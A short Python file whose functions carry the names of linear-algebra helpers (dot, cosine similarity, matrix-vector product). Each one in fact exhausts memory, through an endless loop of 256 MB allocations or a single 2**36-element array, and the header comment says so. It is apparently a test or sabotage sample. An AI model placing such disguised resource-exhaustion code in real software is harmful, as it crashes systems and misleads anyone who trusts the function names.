# Take memory until there is none, in Python, numpy and torch.
import torch


def dot(a, b):
    kept = []
    while True:
        kept.append(bytearray(2**28))


def cosine_similarity(a, b):
    return np.ones(2**36)


def matvec_by_rows(A, x):
    return torch.ones(2**36)
